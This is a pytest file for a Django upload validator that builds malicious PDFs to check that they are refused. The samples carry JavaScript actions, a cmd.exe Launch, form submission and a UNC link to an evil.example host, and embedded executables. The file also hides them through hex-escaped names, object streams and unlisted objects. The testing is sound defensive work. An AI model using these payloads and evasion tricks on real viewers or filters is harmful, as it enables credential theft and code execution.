"""Uploaded PDFs with anything a viewer would run, open, fetch or unpack by itself are refused.

Each malicious document is built with pypdf, then also rewritten the way an attacker would hide it from a
byte search: every name hex-escaped (``/J#61vaScript`` is ``/JavaScript`` to a reader), or every object
packed into a compressed object stream.
"""

import base64
import io
import re
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    NumberObject,
    PdfObject,
    StreamObject,
    TextStringObject,
)

from forms.uploads import MAX_PDF_OBJECTS, MAX_PDF_REPAIRS, check_pdf, sanitise_upload
from tests.factories import png_bytes
from workflow.request.models import FootageRequest


def pdf_object(value) -> PdfObject:
    """Python values to pypdf objects: "/Name" is a name, other text a string."""
    if isinstance(value, PdfObject):
        return value
    if isinstance(value, dict):
        return DictionaryObject({NameObject(k): pdf_object(v) for k, v in value.items()})
    if isinstance(value, list):
        return ArrayObject(pdf_object(v) for v in value)
    if isinstance(value, bool):
        raise TypeError(value)
    if isinstance(value, int):
        return NumberObject(value)
    if isinstance(value, float):
        return FloatObject(value)
    if value.startswith("/"):
        return NameObject(value)
    return TextStringObject(value)


def stream(data: bytes, **entries) -> DecodedStreamObject:
    result = DecodedStreamObject()
    result.set_data(data)
    for key, value in entries.items():
        result[NameObject(f"/{key}")] = pdf_object(value)
    return result


JS = {"/Type": "/Action", "/S": "/JavaScript", "/JS": "app.alert('pwned');"}


def annotate(writer: PdfWriter, annotation: dict) -> IndirectObject:
    page = writer.pages[0]
    ref = writer._add_object(pdf_object({"/Type": "/Annot", "/Rect": [50, 50, 200, 80], **annotation}))
    page[NameObject("/Annots")] = ArrayObject([ref])
    return ref


def catalog(writer: PdfWriter, key: str, value) -> None:
    writer.root_object[NameObject(key)] = pdf_object(value)


def open_action_javascript(writer):
    catalog(writer, "/OpenAction", JS)


def javascript_after_open_action_via_next(writer):
    page = writer.pages[0].indirect_reference
    catalog(writer, "/OpenAction", {"/S": "/GoTo", "/D": [page, "/Fit"], "/Next": writer._add_object(pdf_object(JS))})


def annotation_additional_action(writer):
    annotate(writer, {"/Subtype": "/Link", "/AA": {"/E": JS}})


def page_additional_action(writer):
    writer.pages[0][NameObject("/AA")] = pdf_object({"/O": JS})


def catalog_additional_action(writer):
    catalog(writer, "/AA", {"/WC": JS})


def names_javascript(writer):
    writer.add_open_action(JavaScript("app.alert('pwned');"))  # pypdf puts this in /Names /JavaScript


def form_field_additional_action(writer):
    # A parent field that is not on any page: reachable only through /AcroForm.
    field = writer._add_object(pdf_object({"/FT": "/Tx", "/T": "amount", "/AA": {"/K": JS}}))
    catalog(writer, "/AcroForm", {"/Fields": [field]})


def unreferenced_javascript_object(writer):
    writer._add_object(pdf_object(JS))


def launch(writer):
    annotate(writer, {"/Subtype": "/Link", "/A": {"/S": "/Launch", "/F": "cmd.exe", "/Win": {"/F": "cmd.exe"}}})


def submit_form(writer):
    submit = {"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "https://evil.example/collect"}}
    annotate(writer, {"/Subtype": "/Widget", "/FT": "/Btn", "/T": "send", "/A": submit})


def import_data(writer):
    catalog(writer, "/OpenAction", {"/S": "/ImportData", "/F": "answers.fdf"})


def remote_go_to(writer):
    # A UNC path makes Windows send the viewer's credentials to the remote host.
    annotate(
        writer, {"/Subtype": "/Link", "/A": {"/S": "/GoToR", "/F": r"\\evil.example\share\a.pdf", "/D": [0, "/Fit"]}}
    )


def embedded_go_to(writer):
    annotate(writer, {"/Subtype": "/Link", "/A": {"/S": "/GoToE", "/F": "other.pdf", "/T": {"/R": "/C", "/N": "x"}}})


def uri_link(writer):
    annotate(writer, {"/Subtype": "/Link", "/A": {"/S": "/URI", "/URI": "https://example.org/"}})


def uri_on_open(writer):
    catalog(writer, "/OpenAction", {"/S": "/URI", "/URI": "https://evil.example/track"})


def named_action_on_open(writer):
    catalog(writer, "/OpenAction", {"/S": "/Named", "/N": "/Print"})


def embedded_files(writer):
    writer.add_attachment("payload.exe", b"MZ\x90\x00")


def file_attachment_annotation(writer):
    payload = writer._add_object(stream(b"MZ\x90\x00", Type="/EmbeddedFile"))
    annotate(
        writer, {"/Subtype": "/FileAttachment", "/FS": {"/Type": "/Filespec", "/F": "a.exe", "/EF": {"/F": payload}}}
    )


def rich_media(writer):
    content = {"/Assets": {"/Names": []}, "/Configurations": []}
    annotate(writer, {"/Subtype": "/RichMedia", "/RichMediaContent": content})


def xfa(writer):
    catalog(writer, "/AcroForm", {"/Fields": [], "/XFA": writer._add_object(stream(b"<xdp:xdp/>"))})


MALICIOUS = [
    open_action_javascript,
    javascript_after_open_action_via_next,
    annotation_additional_action,
    page_additional_action,
    catalog_additional_action,
    names_javascript,
    form_field_additional_action,
    unreferenced_javascript_object,
    launch,
    submit_form,
    import_data,
    remote_go_to,
    embedded_go_to,
    uri_link,
    uri_on_open,
    named_action_on_open,
    embedded_files,
    file_attachment_annotation,
    rich_media,
    xfa,
]


def build(change=None, *, pages: int = 2) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if change:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def escape_names(data: bytes) -> bytes:
    # /Type -> /#54ype: the same name to a PDF reader, invisible to a search of the bytes.
    return re.sub(rb"/([A-Za-z])", lambda m: b"/#%02X" % m.group(1)[0], data)


def serialise(obj: PdfObject) -> bytes:
    buffer = io.BytesIO()
    obj.write_to_stream(buffer)
    return buffer.getvalue()


def object_stream_object(number: int, members: dict[int, bytes]) -> bytes:
    index, bodies = [], b""
    for member, body in members.items():
        index.append(b"%d %d" % (member, len(bodies)))
        bodies += body + b"\n"
    header = b" ".join(index) + b"\n"
    data = zlib.compress(header + bodies)
    head = b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>" % (len(index), len(header), len(data))
    return b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (number, head, data)


def repack(content: bytes, *, hex_names: bool = False, object_stream: bool = False, unlisted: bytes = b"") -> bytes:
    """The same document written again by hand: names hex-escaped, other objects in a compressed object stream,
    ``unlisted`` bytes in the body that the cross-reference table does not point to."""
    reader = PdfReader(io.BytesIO(content))
    size = int(reader.trailer["/Size"])
    escape = escape_names if hex_names else (lambda data: data)
    plain, packed = {}, {}
    for number in range(1, size):
        obj = reader.get_object(number)
        if isinstance(obj, StreamObject):
            head = DictionaryObject(obj)
            head[NameObject("/Length")] = NumberObject(len(obj._data))
            plain[number] = escape(serialise(head)) + b"\nstream\n" + obj._data + b"\nendstream"
        elif obj is not None:
            (packed if object_stream else plain)[number] = escape(serialise(obj))
    root = reader.trailer.raw_get("/Root").idnum

    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in plain.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    out += unlisted
    if not object_stream:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
        out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
        return bytes(out)

    objstm, xref_number = size, size + 1
    offsets[objstm] = len(out)
    out += object_stream_object(objstm, packed)
    offsets[xref_number] = len(out)
    rows = b"\x00\x00\x00\x00\x00\xff\xff"
    positions = {number: i for i, number in enumerate(packed)}
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        elif number in positions:
            rows += b"\x02" + objstm.to_bytes(4, "big") + positions[number].to_bytes(2, "big")
        else:
            rows += b"\x00\x00\x00\x00\x00\xff\xff"
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d >>\nstream\n" % (
        xref_number,
        xref_number + 1,
        root,
        len(rows),
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


VARIANTS = {
    "plain": lambda content: content,
    "hex_names": lambda content: repack(content, hex_names=True),
    "object_stream": lambda content: repack(content, object_stream=True),
}


def upload(content: bytes, name="report.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def test_the_repacked_documents_hide_their_names_from_a_byte_search():
    content = build(open_action_javascript)
    assert b"/JavaScript" in content
    for variant in ("hex_names", "object_stream"):
        hidden = VARIANTS[variant](content)
        assert b"/JavaScript" not in hidden and b"/JS" not in hidden
        catalog = PdfReader(io.BytesIO(hidden)).trailer["/Root"]
        assert catalog["/OpenAction"]["/S"] == "/JavaScript"  # still there for a reader


@pytest.mark.parametrize("variant", list(VARIANTS))
@pytest.mark.parametrize("change", MALICIOUS, ids=[change.__name__ for change in MALICIOUS])
def test_pdf_with_active_content_is_refused(change, variant):
    content = VARIANTS[variant](build(change))
    with pytest.raises(ValidationError) as raised:
        sanitise_upload(upload(content))
    assert raised.value.code == "pdf_active_content"


def test_javascript_in_an_object_the_cross_reference_table_does_not_list_is_refused():
    def go_to_on_open(writer):
        catalog(writer, "/OpenAction", writer._add_object(pdf_object({"/S": "/GoTo", "/D": [0, "/Fit"]})))

    content = build(go_to_on_open)
    number = PdfReader(io.BytesIO(content)).trailer["/Root"].raw_get("/OpenAction").idnum
    # The table points to the harmless first "N 0 obj"; a viewer that repairs the file by scanning it
    # takes the later one.
    later = b"%d 0 obj\n%s\nendobj\n" % (number, escape_names(serialise(pdf_object(JS))))
    hidden = repack(content, hex_names=True, unlisted=later)
    assert PdfReader(io.BytesIO(hidden)).trailer["/Root"]["/OpenAction"]["/S"] == "/GoTo"
    with pytest.raises(ValidationError) as raised:
        check_pdf(hidden)
    assert raised.value.code == "pdf_active_content"


def test_javascript_in_an_object_stream_the_cross_reference_table_does_not_list_is_refused():
    hidden = repack(build(), unlisted=object_stream_object(90, {91: serialise(pdf_object(JS))}))
    assert b"/JS" not in hidden
    with pytest.raises(ValidationError) as raised:
        check_pdf(hidden)
    assert raised.value.code == "pdf_active_content"


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written byte by byte: object 1 is the catalog, 2 the page tree, 3 the page."""
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)


def test_hand_written_javascript_behind_hex_escaped_names_is_refused():
    page_tree = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    clean = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", page_tree, page)
    assert check_pdf(clean) is None
    hidden = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Op#65nAction << /S /GoTo /D [3 0 R /Fit] /N#65xt 4 0 R >> >>",
        page_tree,
        page,
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    )
    with pytest.raises(ValidationError) as raised:
        check_pdf(hidden)
    assert raised.value.code == "pdf_active_content"


@pytest.mark.parametrize(
    "action",
    [
        pytest.param(b"<< /S /GoTo /D [3 0 R /Fit] /X ) /S /JavaScript /JS (x) >>", id="stray_parenthesis"),
        pytest.param(b"<< /S /GoTo /D [3 0 R /Fit] /X <zz> /S /JavaScript /JS (x) >>", id="bad_hex_string"),
        pytest.param(b"<< /S /Thing /S /Launch /F (cmd.exe) >>", id="two_action_types"),
    ],
)
def test_pdf_whose_objects_pypdf_reads_only_in_part_is_refused(action):
    # pypdf keeps what comes before the error (or the first of two /S entries); a viewer may read on.
    hidden = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        action,
    )
    with pytest.raises(ValidationError) as raised:
        check_pdf(hidden)
    assert raised.value.code == "pdf_damaged"


PAGE_TREE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def test_references_to_missing_objects_are_not_searched_for_through_the_whole_file(monkeypatch):
    # pypdf searches all the bytes for each object the table does not list: 2,000 such references in 5 MB
    # took 255 s.
    import pypdf._reader

    searches = []
    whole_file = pypdf._reader.get_stream_data
    monkeypatch.setattr(pypdf._reader, "get_stream_data", lambda stream: searches.append(1) or whole_file(stream))
    missing = b" ".join(b"%d 0 R" % number for number in range(100, 150))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [%s] >>" % missing
    assert check_pdf(raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGE_TREE, page)) is None
    assert searches == []


def misplaced(content: bytes, numbers) -> bytes:
    """The table points these objects to object 1's place (pypdf then searches the whole file for each)."""
    table = content.index(b"xref\n0 ")
    first_entry = content.index(b"\n", table + 5) + 1
    for number in numbers:
        at = first_entry + 20 * number
        content = content[:at] + b"%010d 00000 n \n" % 9 + content[at + 20 :]
    return content


def test_table_pointing_many_objects_to_wrong_places_is_refused():
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    extra = [b"<< /Filler %d >>" % number for number in range(MAX_PDF_REPAIRS + 5)]
    content = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", PAGE_TREE, page, *extra)
    assert check_pdf(misplaced(content, range(4, 7))) is None  # a few: repaired, as viewers do
    with pytest.raises(ValidationError) as raised:
        check_pdf(misplaced(content, range(4, 4 + len(extra))))
    assert raised.value.code == "pdf_damaged"


def test_pdf_with_more_objects_than_can_be_checked_in_time_is_refused():
    many = b"".join(b"%d 0 obj null endobj\n" % number for number in range(100, 100 + MAX_PDF_OBJECTS + 1))
    with pytest.raises(ValidationError) as raised:
        check_pdf(repack(build(), unlisted=many))
    assert raised.value.code == "pdf_too_complex"


@pytest.mark.parametrize("user_password", ["", "secret"], ids=["opens_without_a_password", "password"])
def test_encrypted_pdf_is_refused(user_password):
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password, owner_password="owner", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    with pytest.raises(ValidationError) as raised:
        check_pdf(buffer.getvalue())
    assert raised.value.code == "pdf_encrypted"


def document_with_text_image_and_links() -> bytes:
    from weasyprint import HTML

    picture = base64.b64encode(png_bytes(size=(240, 120), mode="RGB")).decode()
    html = f"""<html><body>
      <h1>Incident report</h1><p>The bicycle was taken from the market at 14:30.</p>
      <img src="data:image/png;base64,{picture}" alt="">
      <p><a href="#second">See the second page</a></p>
      <h1 id="second" style="break-before: page">Witnesses</h1><p>Two traders saw the man leave.</p>
      <h2>Notes</h2><p>Nothing else was taken.</p>
    </body></html>"""
    return HTML(string=html).write_pdf()


def test_plain_document_with_text_image_links_and_bookmarks_is_kept_unchanged():
    content = document_with_text_image_and_links()
    reader = PdfReader(io.BytesIO(content))
    assert len(reader.pages) == 2 and reader.outline  # bookmarks chain their items with /Next
    result = sanitise_upload(upload(content))
    assert result.kind == "pdf" and result.content == content
    stored = PdfReader(io.BytesIO(result.content))
    assert len(stored.pages) == 2
    assert "taken from the market" in stored.pages[0].extract_text()
    assert "Two traders saw the man leave" in stored.pages[1].extract_text()
    assert stored.pages[0]["/Resources"]["/XObject"]


def test_filled_form_without_actions_is_accepted():
    def filled_form(writer):
        field = annotate(writer, {"/Subtype": "/Widget", "/FT": "/Tx", "/T": "name", "/V": "สมศักดิ์ ใจดี"})
        catalog(writer, "/AcroForm", {"/Fields": [field]})

    for variant in VARIANTS.values():
        content = variant(build(filled_form))
        assert sanitise_upload(upload(content)).content == content


def test_image_data_that_happens_to_spell_a_script_name_is_accepted():
    # Raw pixels (or compressed data) can hold any bytes, "/JS " among them: only PDF syntax counts.
    pixels = bytes([47, 74, 83, 32, 0, 0]) * 50
    image = stream(
        pixels, Type="/XObject", Subtype="/Image", Width=100, Height=1, ColorSpace="/DeviceRGB", BitsPerComponent=8
    )

    def picture(writer):
        page = writer.pages[0]
        page[NameObject("/Resources")] = pdf_object({"/XObject": {"/Im1": writer._add_object(image)}})
        contents = writer._add_object(stream(b"q 100 0 0 1 0 0 cm /Im1 Do Q"))
        page[NameObject("/Contents")] = contents

    content = build(picture)
    assert b"/JS " in content
    assert sanitise_upload(upload(content)).content == content


def test_refused_pdf_is_reported_on_its_field_in_thai_and_the_form_keeps_what_was_typed(
    client, form_page, stations, request_types
):
    from tests.forms.test_form_page import id_card_file, valid_post

    data = valid_post(stations, request_types)
    hidden = repack(build(javascript_after_open_action_via_next), object_stream=True)
    response = client.post(
        form_page.url, {**data, "id_card": id_card_file(), "police_report": upload(hidden, "police.pdf")}
    )
    assert response.status_code == 200
    assert FootageRequest.objects.count() == 0
    html = response.content.decode()
    error = re.search(r'id="id_police_report_error"[^>]*>(.*?)</', html, re.S)
    assert error, "the refusal is shown on the police report field"
    assert "ไฟล์ PDF นี้มีสคริปต์ ลิงก์ ไฟล์แนบ" in error.group(1)
    assert 'value="สมศักดิ์"' in html and 'value="ใจดี"' in html
    assert re.search(r'name="id_card_kept" value="[^"]+"', html), "the valid ID-card copy is kept"
